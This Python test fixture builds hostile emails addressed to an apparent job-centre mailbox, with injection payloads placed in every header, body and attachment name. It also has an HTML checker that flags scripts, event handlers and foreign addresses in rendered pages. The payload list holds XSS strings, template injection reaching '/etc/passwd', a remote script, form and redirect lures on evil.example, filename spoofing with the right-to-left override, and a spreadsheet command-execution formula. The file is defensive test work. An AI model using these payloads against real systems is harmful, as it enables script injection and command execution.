"""Mail that tries to be more than words: in names, subjects, bodies, file names and headers."""

from email.message import EmailMessage
from html.parser import HTMLParser

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></textarea></script><script src=https://evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">Hier</a>',
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ config }}",
    "%(secret)s {0.__class__} ${7*7} #{7*7}",
    "<form action=https://evil.example><input name=csrf_token autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=//evil.example>",
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "\u202egpj.exe\u202c \u2066\u200fabc\u2069",
    "&lt;script&gt; &#60;script&#62; \\u003cscript\\u003e",
    "=cmd|'/c calc'!A1",
)
"""What is tried; each stands in every place of a letter in turn."""
ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "srcset", "background")


def letters() -> tuple[bytes, ...]:
    """Return a letter for each trick, with the trick everywhere."""
    return tuple(_letter(trick, number) for number, trick in enumerate(SCRIPTS))


def _letter(trick: str, number: int) -> bytes:
    mail = EmailMessage()
    name = trick.replace('"', "").replace("\\", "")
    mail["From"] = f'"{name}" <anna{number}@citizen.example>'
    mail["To"] = "krm@jobcenter.example"
    mail["Reply-To"] = f'"{name}" <x@citizen.example>'
    mail["Subject"] = f"{trick} Beschwerde {number}"
    mail["Message-ID"] = f"<hostile{number}@citizen.example>"
    mail["X-Trick"] = trick
    mail.set_content(f"Ich beschwere mich.\n{trick}\n\n> {trick}\n-- \n{trick}")
    mail.add_alternative(f"<p>Ich beschwere mich.</p>{trick}", subtype="html")
    for kind, content in (("txt", trick.encode()), ("html", f"<html>{trick}".encode())):
        mail.add_attachment(
            content, maintype="text", subtype="html", filename=f"{trick[:60]}.{kind}"
        )
    mail.add_attachment(
        f"<svg xmlns='http://www.w3.org/2000/svg'>{trick}</svg>".encode(),
        maintype="image",
        subtype="svg+xml",
        filename=f"{name[:60]}.svg",
    )
    return bytes(mail)


class Faults(HTMLParser):
    """What a page holds that it must not: scripts of others, handlers, addresses elsewhere."""

    def __init__(self) -> None:
        """Begin without any."""
        super().__init__()
        self.found: list[str] = []
        self._is_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at an element as a browser would."""
        values = {name: value or "" for name, value in attrs}
        if tag == "script" and not values.get("src", "").startswith("/static/"):
            self.found.append(f"script {values}")
        self._is_script = tag == "script"
        if tag in {"iframe", "object", "embed", "base", "style", "svg", "template", "applet"}:
            self.found.append(tag)
        if tag == "meta" and "http-equiv" in values:
            self.found.append("meta refresh")
        self.found += [f"{tag} {name}" for name in values if name.startswith("on")]
        self.found += [f"{tag} {name}" for name in values if name in {"style", "srcdoc"}]
        self.found += [
            f"{tag} {name}={values[name]}"
            for name in ADDRESSES
            if name in values and not values[name].startswith(("/", "#", "?"))
        ]
        self.found += [
            f"{tag} {name}={values[name]}"
            for name in ADDRESSES
            if values.get(name, "").startswith("//")
        ]

    def handle_data(self, data: str) -> None:
        """Look for words inside a script."""
        if self._is_script and data.strip():
            self.found.append(f"inline script {data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        """Leave a script."""
        self._is_script = self._is_script and tag != "script"


def faults_of(page: str) -> list[str]:
    """Return what a page holds that it must not."""
    faults = Faults()
    faults.feed(page)
    return faults.found
